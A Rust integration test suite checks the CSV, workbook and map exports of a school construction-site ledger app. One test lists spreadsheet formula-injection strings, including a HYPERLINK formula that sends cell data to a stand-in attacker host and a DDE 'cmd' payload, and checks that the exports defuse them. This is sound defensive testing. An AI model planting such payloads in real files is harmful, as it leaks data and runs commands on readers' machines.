//! Tables to take away: what people wrote is in them, exactly.

mod listing;
mod sheet;
mod sight;

use std::collections::BTreeSet;

use calamine::Data;
use harness::world::{JIAOCHENG, SHANGHANG, days};
use harness::{Server, World};
use reqwest::Method;
use serde_json::{Value as Json, json};
use sqlx::ConnectOptions as _;
use sqlx::sqlite::SqliteConnectOptions;
use sync_protocol::id::RecordId;
use sync_protocol::kinds::Role;
use sync_protocol::signoff::Verdict;

use sheet::{Sheet, ask, download, lines, workbook};
pub(crate) use sight::lively;

#[tokio::test(flavor = "multi_thread")]
async fn a_table_of_diaries_says_what_two_people_wrote_of_a_day() {
    let server = Server::start().await;
    let mut world = World::small(61).open(&server).await;
    let project = world.projects[0].clone();
    let mut one = world.school_phone(&server, "甲").await;
    let mut other = world.school_phone(&server, "乙").await;
    one.sync().await.expect("the line holds");
    other.sync().await.expect("the line holds");
    let diary = one.write_diary(project.id, "2026-03-02", |form| {
        form.working("二层柱钢筋绑扎完成")
            .set("image_progress", "主体二层")
            .set("temp_min", -15)
            .set("progress_bp", 3333)
            .crew("钢筋工", 6)
            .crew("阿姨", 1)
            .set_json(
                "materials",
                json!({ "name": "水泥", "spec": "P.O 42.5", "qty": 12.5, "unit": "t", "sampled": true }),
            )
    });
    one.write("diary", diary, |form| form.set("remarks", "下午下雨"));
    other.write_diary(project.id, "2026-03-02", |form| {
        form.set("image_progress", "主体三层").crew("普工", 3).set("remarks", "监理, \"到场\"")
    });
    one.sync().await.expect("the line holds");
    other.sync().await.expect("the line holds");
    one.sync().await.expect("the line holds");
    one.sign(diary, Role::SchoolTeam, Verdict::Signed, None);
    let void = one.write_diary(project.id, "2026-03-03", |form| form.working("写错了"));
    one.sync().await.expect("the line holds");
    one.withdraw(void, "日期写错");
    one.sync().await.expect("the line holds");
    world.office.refresh().await.expect("the office has a good line");

    let response = ask(&world.office.desk, "diary.csv?county=350823").await;
    let header = |name: &str| response.headers()[name].to_str().expect("ASCII").to_owned();
    assert_eq!(header("content-type"), "text/csv; charset=utf-8; header=present");
    let name = header("content-disposition");
    assert!(name.starts_with("attachment; filename=\"diary-350823-20"), "{name}");
    assert!(name.contains("filename*=UTF-8''%E7%9B%91%E7%AE%A1"), "{name}");
    let table = Sheet::of_csv(&response.bytes().await.expect("whole"));
    assert_eq!(
        table.headings,
        "县（区）|学校|项目|日期|当日状态|未施工原因|上午天气|下午天气|最低气温（℃）|最高气温（℃）|施工部位|\
         各工种人数·钢筋工（人）|各工种人数·普工（人）|各工种人数·阿姨（人）|机械设备|进场材料|施工进展|形象进度|\
         完成比例（%）|监理到岗|监理活动|教学区与施工区隔离|安全情况良好|质量情况良好|发现的问题|来访与检查|补记原因|\
         作废|签字|照片（张）|照片|备注|更正原因|代填教学点|代填教学点编号|冲突项|县（区）代码|记录编号|学校编号|项目编号|台账序号|\
         首次收到|最近收到|填报人"
            .split('|')
            .collect::<Vec<_>>()
    );
    for (heading, said) in [
        ("县（区）", "上杭县"),
        ("学校", world.schools[0].name.as_str()),
        ("项目", project.name.as_str()),
        ("日期", "2026-03-02"),
        ("当日状态", "施工"),
        ("最低气温（℃）", "-1.5"),
        ("施工部位", "主体二层，轴线：①-⑤"),
        ("各工种人数·钢筋工（人）", "6"),
        ("各工种人数·普工（人）", "3"),
        ("各工种人数·阿姨（人）", "1"),
        ("进场材料", "水泥，规格型号：P.O 42.5，数量：12.5，单位：t，见证取样：是"),
        ("施工进展", "二层柱钢筋绑扎完成"),
        ("形象进度", "主体二层"),
        ("完成比例（%）", "33.33"),
        ("教学区与施工区隔离", "是"),
        ("备注", "甲（演示）：下午下雨；乙（演示）：监理, \"到场\""),
        ("签字", ""),
        ("冲突项", "形象进度"),
        ("学校编号", &project.school.to_string()),
        ("项目编号", &project.id.to_string()),
    ] {
        assert_eq!(table.cell(diary, heading), said, "{heading}");
    }
    assert_eq!(table.cell(void, "作废"), "作废：日期写错");
    let authors: BTreeSet<_> = table.cell(diary, "填报人").split('、').collect();
    assert_eq!(authors, BTreeSet::from(["甲（演示）", "乙（演示）"]));
    let (first, last) = (table.cell(diary, "首次收到"), table.cell(diary, "最近收到"));
    assert!(first.starts_with("20") && first.len() == 19 && first <= last, "{first} {last}");

    // The office settles it; the school signs; another entry comes after the signature.
    world.office.desk.settle(diary, "image_progress", "主体二层");
    world.office.refresh().await.expect("the office has a good line");
    one.sync().await.expect("the line holds");
    one.sign(diary, Role::SchoolTeam, Verdict::Signed, Some("属实"));
    one.sync().await.expect("the line holds");
    let signed = Sheet::get(&one, "diary.csv").await;
    assert_eq!(signed.cell(diary, "签字"), "项目管理小组签字（甲（演示））：属实");
    assert_eq!(signed.cell(diary, "冲突项"), "");
    one.write_diary(project.id, "2026-03-02", |form| form.set("quality_ok", false).set("reason", "更正"));
    one.sync().await.expect("the line holds");
    let changed = Sheet::get(&one, "diary.csv").await;
    assert_eq!(changed.cell(diary, "签字"), "项目管理小组签字（甲（演示））：属实（签后有改动）");

    // In English, and without what is withdrawn.
    let english = Sheet::get(&one, "diary.csv?lang=en&withdrawn=false").await;
    assert_eq!(english.rows.len(), 1);
    assert_eq!(english.cell(diary, "work status"), "working");
    assert_eq!(english.cell(diary, "crew by trade: steel fixer (people)"), "6");
    assert_eq!(english.cell(diary, "lowest temperature (°C)"), "-1.5");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_table_speaks_the_words_that_the_county_gave_to_its_codes() {
    let server = Server::start().await;
    let mut world = World::small(66).open(&server).await;
    let project = world.projects[0].id;
    for (list, code, entry) in [
        ("trade", "T07", json!({ "zh": "打桩工", "en": "pile driver" })),
        ("trade", "普工", json!({ "zh": "小工" })),
        ("image_progress", "I3", json!({ "zh": "桩基" })),
    ] {
        world.office.desk.begin("code_list", |form| {
            form.set("county", "350823").set("list", list).set_json(&format!("entries/{code}"), entry)
        });
    }
    assert_eq!(world.office.desk.sync().await.expect("the office has a good line").held, 0);
    let mut phone = world.school_phone(&server, "甲").await;
    phone.sync().await.expect("the line holds");
    let diary = phone.write_diary(project, "2026-03-02", |form| {
        form.working("打桩").set("image_progress", "I3").crew("T07", 4).crew("普工", 2).crew("钢筋工", 1)
    });
    assert_eq!(phone.sync().await.expect("the line holds").held, 0);
    let table = Sheet::get(&phone, "diary.csv").await;
    for (heading, said) in [
        ("各工种人数·打桩工（人）", "4"),
        ("各工种人数·小工（人）", "2"),
        ("各工种人数·钢筋工（人）", "1"),
        ("形象进度", "桩基"),
    ] {
        assert_eq!(table.cell(diary, heading), said, "{heading}");
    }
    // What nobody said in English is called as it always is there.
    let english = Sheet::get(&phone, "diary.csv?lang=en").await;
    assert_eq!(english.cell(diary, "crew by trade: pile driver (people)"), "4");
    assert_eq!(english.cell(diary, "crew by trade: labourer (people)"), "2");
    assert_eq!(english.cell(diary, "stage of the building"), "I3");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_workbook_has_real_days_and_numbers_and_money_to_the_last_fen() {
    let server = Server::start().await;
    let mut world = World::small(62).open(&server).await;
    let project = world.projects[0].id;
    let desk = &mut world.office.desk;
    let mut events = Vec::new();
    for (amount, written) in
        [(1_i64, "0.01"), (-123_456_789, "-1234567.89"), (9_007_199_254_740_991, "90071992547409.91")]
    {
        let event = desk.begin("fund_event", |form| {
            form.set("project", project.to_string())
                .set("type", "下达")
                .set("source", "中央")
                .set("amount", amount)
                .set("voucher", "演示-1")
                .set("date", "2016-03-02")
        });
        events.push((event, amount, written));
    }
    let contract = desk.begin("contract", |form| {
        form.set("county", "350823")
            .set("name", "教学楼施工合同")
            .set("contract_kind", "施工")
            .set("party", "演示公司")
            .set("amount", 100)
            .set("projects", project.to_string())
    });
    let paid = desk.begin("fund_event", |form| {
        form.set("project", project.to_string())
            .set("type", "申请")
            .set("source", "县")
            .set("amount", 5_050)
            .set("voucher", "演示-2")
            .set("contract", contract.to_string())
    });
    let plan = desk.begin("plan", |form| {
        form.set("county", "350823")
            .set("name", "规划")
            .set("version", "1")
            .set("planned_area", 22_140_000)
            .set("funding/中央", 36_200_000_000_i64)
            .set("funding/省", 21_200_000_000_i64)
    });
    let sent = desk.sync().await.expect("the line holds");
    assert_eq!(sent.held, 0, "{:?}", desk.phone.outbox.held);

    let desk = &world.office.desk;
    let table = Sheet::get(desk, "fund_event.csv").await;
    for (event, _, written) in &events {
        assert_eq!(table.cell(*event, "金额（元）"), *written);
    }
    assert_eq!(table.cell(paid, "金额（元）"), "50.50");
    assert_eq!(table.cell(paid, "合同"), "教学楼施工合同");
    assert_eq!(table.cell(paid, "合同编号"), contract.to_string());
    let table = Sheet::get(desk, "plan.csv").await;
    assert_eq!(table.cell(plan, "规划面积（㎡）"), "221400.00");
    assert_eq!(table.cell(plan, "规划资金·中央（元）"), "362000000.00");
    assert_eq!(table.cell(plan, "规划资金·省（元）"), "212000000.00");
    let table = Sheet::get(desk, "contract.csv").await;
    assert_eq!(table.cell(contract, "项目（合同）"), world.projects[0].name);

    let rows = workbook(download(desk, "fund_event.xlsx").await);
    let at = |heading: &str| {
        rows[0].iter().position(|cell| *cell == Data::String(heading.to_owned())).expect("a column")
    };
    let row = |record: RecordId| {
        let id = Data::String(record.to_string());
        rows.iter().find(|row| row[at("记录编号")] == id).expect("the record has a row")
    };
    assert_eq!(rows.len(), 1 + 4);
    assert_eq!(row(events[0].0)[at("金额（元）")], Data::Float(0.01));
    assert_eq!(row(events[1].0)[at("金额（元）")], Data::Float(-1_234_567.89));
    // What a spreadsheet would round stands there as it is.
    assert_eq!(row(events[2].0)[at("金额（元）")], Data::String("90071992547409.91".to_owned()));
    let Data::DateTime(day) = &row(events[0].0)[at("日期")] else { panic!("a real day") };
    assert_eq!(day.to_ymd_hms_milli(), (2016, 3, 2, 0, 0, 0, 0));
    assert_eq!(row(paid)[at("日期")], Data::Empty);
    let Data::DateTime(received) = &row(paid)[at("最近收到")] else { panic!("a real moment") };
    let table = Sheet::get(desk, "fund_event.csv").await;
    let (year, month, day, hour, minute, second, _) = received.to_ymd_hms_milli();
    let spelt = format!("{year}-{month:02}-{day:02} {hour:02}:{minute:02}:{second:02}");
    assert_eq!(spelt, table.cell(paid, "最近收到"));
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_people_write_is_computed_by_a_spreadsheet() {
    let server = Server::start().await;
    let mut world = World::small(63).open(&server).await;
    let hostile = [
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        " =1+1",
        "a\",=1+1,\"b",
        "a\n=1+1",
        "-12.50",
        "_x0041_ <b>&amp;\u{1}\u{b}\u{fffe}",
    ];
    let project = world.projects[0].id;
    let desk = &mut world.office.desk;
    let mut records = Vec::new();
    for text in hostile {
        let record = desk.begin("meeting", |form| {
            form.set("county", "350823").set("date", "2026-03-02").set("subject", text)
        });
        records.push((record, text));
    }
    desk.edit(project, |form| form.set("name", "=1+2"));
    // Who writes is as little trusted as what is written.
    let mut phone = world.join(&server, "formula", "=1+1", &[("school_team", "county:350823")]).await;
    let diary = phone.write_diary(world.projects[0].id, "2026-03-02", |form| {
        form.working("浇筑").crew("=1+1", 3).set_json("visitors", json!({ "name": "=1+1" }))
    });
    phone.sync().await.expect("the line holds");
    world.office.refresh().await.expect("the office has a good line");

    let desk = &world.office.desk;
    let table = Sheet::get(desk, "meeting.csv").await;
    let rows = workbook(download(desk, "meeting.xlsx").await);
    let at = |heading: &str| rows[0].iter().position(|cell| *cell == Data::String(heading.to_owned()));
    let (subject, id) = (at("议题").expect("a column"), at("记录编号").expect("a column"));
    for (record, text) in &records {
        let cell = table.cell(*record, "议题");
        let is_number = *text == "-12.50";
        let begins =
            |cell: &str| cell.trim_start_matches(' ').starts_with(['=', '+', '-', '@', '\t', '\r', '＝']);
        assert!(is_number || !begins(cell), "{text:?} is written {cell:?}");
        assert_eq!(cell.strip_prefix('\'').unwrap_or(cell), *text, "and nothing else is changed");
        let row = rows.iter().find(|row| row[id] == Data::String(record.to_string())).expect("a row");
        // A workbook says of each cell what it is: this is text, whatever it looks like.
        let Data::String(cell) = &row[subject] else { panic!("{:?} is no text", row[subject]) };
        let legible = text.replace('\r', "\n").replace(['\u{1}', '\u{b}', '\u{fffe}'], "");
        let cell = cell.replace('\r', "\n").replace(['\u{1}', '\u{b}', '\u{fffe}'], "");
        assert_eq!(cell.trim(), legible.trim());
    }
    let table = Sheet::get(desk, "diary.csv").await;
    assert_eq!(table.cell(diary, "各工种人数·=1+1（人）"), "3");
    assert_eq!(table.cell(diary, "来访与检查"), "'=1+1");
    assert_eq!(table.cell(diary, "项目"), "'=1+2");
    assert_eq!(table.cell(diary, "填报人"), "'=1+1");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_map_shows_schools_and_photos_where_gps_has_them() {
    let server = Server::start().await;
    let mut world = World::small(66).open(&server).await;
    let school = world.schools[0].clone();
    let mut phone = world.school_phone(&server, "甲").await;
    let photo = |sha256: &str, position: Json| {
        json!({ "sha256": sha256.repeat(64), "category": "形象进度", "caption": "柱筋",
                "taken_at": "2026-03-02T10:00:00+08:00", "position": position })
    };
    let drawn = json!({ "lat": 25.0495, "lon": 116.4203, "accuracy_m": 12, "datum": "gcj02" });
    let unknown = json!({ "lat": 25.05, "lon": 116.42 });
    let diary = phone.write_diary(world.projects[0].id, "2026-03-02", |form| {
        form.working("浇筑")
            .set_json("photos", photo("a", drawn))
            .set_json("photos", photo("b", unknown))
            .set_json("photos", json!({ "sha256": "c".repeat(64) }))
    });
    phone.sync().await.expect("the line holds");
    world.office.refresh().await.expect("the office has a good line");
    let map = async |path: &str| -> Json {
        let response = ask(&world.office.desk, path).await;
        assert_eq!(response.headers()["content-type"], "application/geo+json");
        response.json().await.expect("one object")
    };

    let schools = map("school.geojson").await;
    assert_eq!(schools["type"], "FeatureCollection");
    let features = schools["features"].as_array().expect("features");
    assert_eq!(features.len(), world.schools.len());
    let feature = features.iter().find(|feature| feature["properties"]["record"] == school.id.to_string());
    let feature = feature.expect("the school");
    let (lat, lon) = school.position;
    assert_eq!(feature["geometry"], json!({ "type": "Point", "coordinates": [lon, lat] }));
    assert_eq!(feature["properties"]["name"], school.name.as_str());

    let photos = map("diary.geojson").await;
    let features = photos["features"].as_array().expect("features");
    assert_eq!(features.len(), 2, "a photo without a place is on no map");
    let of = |letter: &str| {
        let sha256 = letter.repeat(64);
        features.iter().find(|feature| feature["properties"]["photo"] == sha256.as_str()).expect("a photo")
    };
    let (from_map, unsaid) = (of("a"), of("b"));
    let coordinates = from_map["geometry"]["coordinates"].as_array().expect("two");
    let there = (coordinates[1].as_f64().expect("degrees"), coordinates[0].as_f64().expect("degrees"));
    let moved = siteledger::photos::datum::distance_m(there, (25.0495, 116.4203));
    assert!((500.0..700.0).contains(&moved), "{moved} m from where a Chinese map draws it");
    let properties = &from_map["properties"];
    assert_eq!(properties["datum"], "gcj02");
    assert_eq!(properties["as_taken"], json!([116.4203, 25.0495]));
    assert_eq!(properties["date"], "2026-03-02");
    assert_eq!(properties["record"], diary.to_string());
    assert_eq!(unsaid["geometry"]["coordinates"], json!([116.42, 25.05]));
    assert_eq!(unsaid["properties"]["datum"], "unknown");

    let table = Sheet::get(&world.office.desk, "diary.csv").await;
    assert_eq!(table.cell(diary, "照片（张）"), "3");
    assert!(table.cell(diary, "照片").contains(&format!("形象进度 柱筋 {}", "a".repeat(64))));
    let table = Sheet::get(&world.office.desk, "school.csv").await;
    assert_eq!(table.cell(school.id, "位置·纬度"), lat.to_string());
    assert_eq!(table.cell(school.id, "位置·坐标系"), "WGS-84");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_damaged_on_the_disk_is_made_anew_or_told_at_the_end() {
    let mut server = Server::start().await;
    let mut world = World::small(67).open(&server).await;
    let mut phone = world.school_phone(&server, "甲").await;
    let mut diaries = Vec::new();
    for day in days("2026-03-01", 5) {
        diaries.push(phone.write_diary(world.projects[0].id, &day, |form| form.working("浇筑")));
    }
    phone.sync().await.expect("the line holds");
    world.office.refresh().await.expect("the office has a good line");
    server.terminate().await;
    let file = server.data().join("siteledger.db");
    let mut raw = SqliteConnectOptions::new().filename(file).connect().await.expect("the database opens");
    for (statement, record) in [
        ("update records set body = replace(body, '浇筑', '养护') where id = $1", diaries[1]),
        ("update records set body = replace(body, '浇筑', '养护') where id = $1", diaries[3]),
        // Of this one the ledger is damaged too.
        ("update changes set body = replace(body, '浇筑', '养护') where record = $1", diaries[3]),
    ] {
        let done = sqlx::query(statement).bind(record.as_bytes().as_slice()).execute(&mut raw).await;
        assert_eq!(done.expect("it is written").rows_affected(), 1);
    }
    drop(raw);
    server.start_again().await;
    phone.connect(&server);
    world.office.desk.connect(&server);

    let bytes = download(&phone, "diary.csv").await;
    let mut table = Sheet::of_csv(&bytes);
    let note = table.rows.pop().expect("a last row");
    assert!(note[0].starts_with("注意：另有 1 条记录"), "{note:?}");
    assert!(note[0].contains(&diaries[3].to_string()));
    assert!(note[1..].iter().all(String::is_empty));
    let expected: BTreeSet<_> = [0, 1, 2, 4].map(|number| diaries[number].to_string()).into();
    assert_eq!(table.ids(), expected);
    assert_eq!(table.cell(diaries[1], "施工进展"), "浇筑", "made anew from the ledger");
    let rows = workbook(download(&phone, "diary.xlsx").await);
    let last = rows.last().expect("a last row")[0].to_string();
    assert!(last.contains(&diaries[3].to_string()), "{last}");
    let snapshots = lines(&download(&phone, "diary.ndjson").await);
    assert_eq!(snapshots.len(), 5);
    assert_eq!(snapshots[4], json!({ "missing": 1, "damaged": [diaries[3]] }));
    let map: Json = serde_json::from_slice(&download(&phone, "diary.geojson").await).expect("one object");
    assert_eq!((&map["missing"], &map["damaged"]), (&json!(1), &json!([diaries[3]])));
    assert!(server.log().contains("a damaged record is left out of a table"), "and in the log");
    let figures = reqwest::get(format!("{}/metrics", server.url())).await.expect("the server answers");
    let figures = figures.text().await.expect("whole");
    let told = "siteledger_tables_total{format=\"csv\",outcome=\"in_part\"} 1";
    assert!(figures.contains(told), "{figures}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_command_line_writes_the_table_that_the_office_gets() {
    let server = Server::start().await;
    let world = lively(&server, SHANGHANG, 6).await;
    lively(&server, JIAOCHENG, 7).await;
    let desk = &world.office.desk;
    let written = |name: &str, more: &[&str]| {
        let file = server.beside(name);
        let path = file.to_str().expect("a path of ours");
        let kind = name.split('.').next().expect("a kind");
        server.run(&[&["export", "table", kind, path], more].concat());
        std::fs::read(file).expect("it is written")
    };
    let here = ["--county", "350823"];
    for name in ["diary.csv", "finding.csv", "complaint.ndjson", "school.geojson", "zone.csv"] {
        let ours = written(name, &here);
        assert!(ours == download(desk, &format!("{name}?county=350823")).await, "{name}");
    }
    let (ours, theirs) = (written("diary.xlsx", &here), download(desk, "diary.xlsx").await);
    assert_eq!(workbook(ours), workbook(theirs));
    let narrow = written("diary.csv", &["--county", "350823", "--from", "2026-03-04", "--lang", "en"]);
    assert_eq!(narrow, download(desk, "diary.csv?from=2026-03-04&lang=en").await);
    let both = Sheet::of_csv(&written("diary.csv", &[]));
    assert_eq!(both.rows.len(), 24, "the command line has all counties");
    let there = server.beside("there");
    std::fs::create_dir(&there).expect("a folder can be made");
    for (kind, name, more, words) in [
        ("diary", "x.pdf", &[][..], "must end in .csv"),
        ("dairy", "x.csv", &[], "there is no kind"),
        ("diary", "x.csv", &["--county", "350999"], "there is no ledger"),
        ("school", "x.csv", &["--from", "2026-03-01"], "has no date"),
    ] {
        let file = there.join(name);
        let arguments = ["export", "table", kind, file.to_str().expect("a path of ours")];
        let output = server.cli(&[&arguments[..], more].concat());
        assert!(!output.status.success() && output.stderr.contains(words), "{words}: {}", output.stderr);
    }
    assert_eq!(there.read_dir().expect("it is there").count(), 0, "nothing is left of what failed");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_table_goes_out_compressed_to_who_asks_and_the_log_says_who_took_it() {
    let server = Server::start().await;
    let world = lively(&server, SHANGHANG, 5).await;
    let asked = |path: &str| {
        let request = world.office.desk.request(Method::GET, &format!("/api/v1/export/{path}"));
        request.header("accept-encoding", "gzip").send()
    };
    // The client takes the compression off, and its header with it.
    let csv = asked("diary.csv").await.expect("the server answers");
    assert!(csv.headers().get("content-length").is_none());
    assert_eq!(Sheet::of_csv(&csv.bytes().await.expect("whole")).rows.len(), 12);
    let book = asked("diary.xlsx").await.expect("the server answers");
    assert_eq!(workbook(book.bytes().await.expect("whole").to_vec()).len(), 13);
    let log = server.log();
    let line = log.lines().find(|line| line.contains("exported a table of diary: 12 rows"));
    let line: Json = serde_json::from_str(line.expect("a line")).expect("JSON");
    assert_eq!((&line["kind"], &line["format"], &line["rows"]), (&json!("diary"), &json!("csv"), &json!(12)));
    assert!(line.to_string().contains(&world.office.desk.phone.owner.user.to_string()), "{line}");
}
